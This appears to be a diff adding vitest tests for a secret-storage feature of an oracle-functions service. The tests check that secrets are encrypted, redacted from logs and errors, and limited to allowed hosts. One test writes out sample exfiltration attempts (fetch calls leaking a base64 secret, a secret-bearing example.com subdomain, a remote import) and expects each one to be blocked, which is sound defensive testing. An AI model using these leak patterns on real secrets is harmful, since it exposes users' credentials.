@@ -1,0 +1,136 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { sealSecret } from "../../src/secrets/sealSecret.ts";
+import { startTycheProcess, type Answer, type TycheProcess } from "../support/tyche.ts";
+
+const TOKEN = "tok_4f7a-very/private+value";
+
+/** A private API: it wants a bearer token, and answers what it was sent. */
+let api: Server;
+let tyche: TycheProcess;
+let host: string;
+beforeAll(async () => {
+  api = createServer((request, response) => {
+    const isKnown = request.headers.authorization === `Bearer ${TOKEN}`;
+    if (request.url === "/elsewhere")
+      response.writeHead(302, { location: `http://localhost:${portOf(api)}/` });
+    else response.writeHead(isKnown ? 200 : 401, { "content-type": "application/json" });
+    response.end(JSON.stringify({ price: isKnown ? 42 : 0, url: request.url }));
+  });
+  await new Promise<void>((resolve) => api.listen(0, "127.0.0.1", resolve));
+  host = `127.0.0.1:${portOf(api)}`;
+  tyche = await startTycheProcess({
+    networks: ["sepolia"],
+    env: { TYCHE_ALLOW_HOSTS: `${host},localhost:${portOf(api)}` },
+  });
+});
+afterAll(async () => {
+  await tyche.stop();
+  api.close();
+});
+
+const portOf = (server: Server): number => (server.address() as AddressInfo).port;
+const set = (name: string, body: object): Promise<Answer> =>
+  tyche.call("PUT", `/api/secrets/${name}`, { body: { network: "sepolia", ...body } });
+const run = (source: string, secrets: readonly string[], args: readonly string[] = []): Promise<Answer> =>
+  tyche.call("POST", "/api/oracleFunctions/runFunction", {
+    body: { network: "sepolia", source, secrets, args },
+  });
+const simulate = (source: string, secrets: readonly string[]): Promise<Answer> =>
+  tyche.call("POST", "/api/oracleFunctions/simulate", { body: { network: "sepolia", source, secrets } });
+
+const PRICE = `const { data, error } = await Functions.makeHttpRequest({ url: "http://HOST/price", headers: { Authorization: "Bearer " + secrets.API_KEY } });
+if (error) throw Error("the API refuses");
+return Functions.encodeString(String(data.price))`;
+
+test("default: a function calls a private API with a secret that nobody else reads", async () => {
+  const stored = await set("API_KEY", { value: TOKEN });
+  expect(stored).toMatchObject({
+    status: 200,
+    data: { name: "API_KEY", network: "sepolia", expiresAt: null },
+  });
+  expect(JSON.stringify(stored.data)).not.toContain(TOKEN);
+  const source = PRICE.replace("HOST", host);
+  expect(await simulate(source, ["API_KEY"])).toMatchObject({ data: { success: true, parsedResult: "42" } });
+  const ran = await run(source, ["API_KEY"]);
+  expect(ran).toMatchObject({ status: 200, data: { success: true, parsedResult: "42" } });
+
+  const hash = String(ran.data.url).split("/").pop();
+  const verified = await tyche.call("GET", `/api/verify?network=sepolia&tx=${hash}`);
+  expect(verified.data).toMatchObject({ verdict: "unconfirmed" });
+  expect(JSON.stringify(verified.data)).toContain("secrets");
+  const listed = await tyche.call("GET", "/api/secrets");
+  expect(listed.data.items).toEqual([expect.objectContaining({ name: "API_KEY" })]);
+});
+
+test("behaviour: a changed secret is the new one at once, a deleted one is gone", async () => {
+  await set("CHANGED", { value: "before-0123" });
+  const source = "return Functions.encodeString(secrets.CHANGED.length + secrets.CHANGED.slice(0, 3))";
+  expect((await run(source, ["CHANGED"])).data).toMatchObject({ parsedResult: "11bef" });
+  await set("CHANGED", { value: "after" });
+  expect((await run(source, ["CHANGED"])).data).toMatchObject({ parsedResult: "5aft" });
+  const gone = await tyche.call("DELETE", "/api/secrets/CHANGED?network=sepolia");
+  expect(gone).toMatchObject({ status: 200, data: { name: "CHANGED" } });
+  expect(await run(source, ["CHANGED"])).toMatchObject({
+    status: 400,
+    data: { code: "invalid_parameter", err: expect.stringContaining("CHANGED") },
+  });
+  expect(await tyche.call("DELETE", "/api/secrets/CHANGED?network=sepolia")).toMatchObject({ status: 404 });
+});
+
+test("behaviour: what a client encrypts is opened by the nodes, and nothing else", async () => {
+  const { data: key } = await tyche.call("GET", "/api/secretsKey?network=sepolia");
+  const label = Buffer.from(key.label.slice(2), "hex");
+  const ciphertext = await sealSecret(key.thresholdPublicKey, { name: "SEALED", value: TOKEN }, label);
+  expect(await set("SEALED", { ciphertext })).toMatchObject({ status: 200 });
+  const source = PRICE.replace("HOST", host).replace("API_KEY", "SEALED");
+  expect((await run(source, ["SEALED"])).data).toMatchObject({ parsedResult: "42" });
+
+  const refused = { status: 400, data: { err: expect.stringContaining("ciphertext") } };
+  expect(await set("OTHER", { ciphertext })).toMatchObject(refused);
+  const ofOther = await sealSecret(
+    key.thresholdPublicKey,
+    { name: "X", value: "y" },
+    label.map((b) => b ^ 1),
+  );
+  expect(await set("X", { ciphertext: ofOther })).toMatchObject(refused);
+  expect(await set("X", { ciphertext: "{}" })).toMatchObject(refused);
+});
+
+test("behaviour: a value is in no console, error or record", async () => {
+  await set("SHOWN", { value: TOKEN });
+  const encoded = [TOKEN, btoa(TOKEN), Buffer.from(TOKEN).toString("hex"), encodeURIComponent(TOKEN)];
+  const source = `console.log(secrets.SHOWN, btoa(secrets.SHOWN)); throw Error([secrets.SHOWN, btoa(secrets.SHOWN), Buffer.from(secrets.SHOWN).toString("hex"), encodeURIComponent(secrets.SHOWN)].join(" "))`;
+  const { data } = await simulate(source, ["SHOWN"]);
+  expect(data).toMatchObject({ success: false, err: "*** *** *** ***" });
+  const ran = await run(source, ["SHOWN"]);
+  const records = await tyche.call("GET", "/api/dryRuns");
+  for (const text of [data, ran.data, records.data].map((one) => JSON.stringify(one)).concat(tyche.output()))
+    for (const form of encoded) expect(text).not.toContain(form);
+  const leaky = await simulate("return Functions.encodeString(secrets.SHOWN)", ["SHOWN"]);
+  expect(leaky.data.warnings).toEqual([expect.stringContaining("on chain, for all to see")]);
+});
+
+test("behaviour: a secret with hosts leaves for those only", async () => {
+  await set("BOUND", { value: TOKEN, allowedHosts: ["127.0.0.1"] });
+  const source = PRICE.replace("HOST", host).replace("API_KEY", "BOUND");
+  expect((await run(source, ["BOUND"])).data).toMatchObject({ parsedResult: "42" });
+  const tries = [
+    `await fetch("http://localhost:${portOf(api)}/?" + btoa(secrets.BOUND)).catch(() => {}); return Functions.encodeString("sent")`,
+    `await fetch("http://${host}/elsewhere").catch(() => {}); return Functions.encodeString("sent")`,
+    `await fetch("http://" + secrets.BOUND.slice(0, 5) + ".example.com/").catch(() => {}); return Functions.encodeString("sent")`,
+    `await import("https://example.com/" + secrets.BOUND.length + ".js").catch(() => {}); return Functions.encodeString("sent")`,
+  ];
+  const failed = { data: { success: false, err: expect.stringContaining("127.0.0.1 only") } };
+  for (const one of tries) expect(await simulate(one, ["BOUND"])).toMatchObject(failed);
+});
+
+test("behaviour: bad names, values and hosts are refused with what is expected", async () => {
+  expect(await set("1ST", { value: "x" })).toMatchObject({ status: 400 });
+  expect(await set("A", {})).toMatchObject({ status: 400 });
+  expect(await set("A", { value: "x".repeat(2_049) })).toMatchObject({ status: 400 });
+  expect(await set("A", { value: "x", allowedHosts: ["https://a.example/"] })).toMatchObject({ status: 400 });
+  expect(await set("A", { value: "x", expiresAt: "2020-01-01T00:00:00Z" })).toMatchObject({ status: 400 });
+  expect(await run("return Functions.encodeString('a')", ["NONE"])).toMatchObject({ status: 400 });
+});
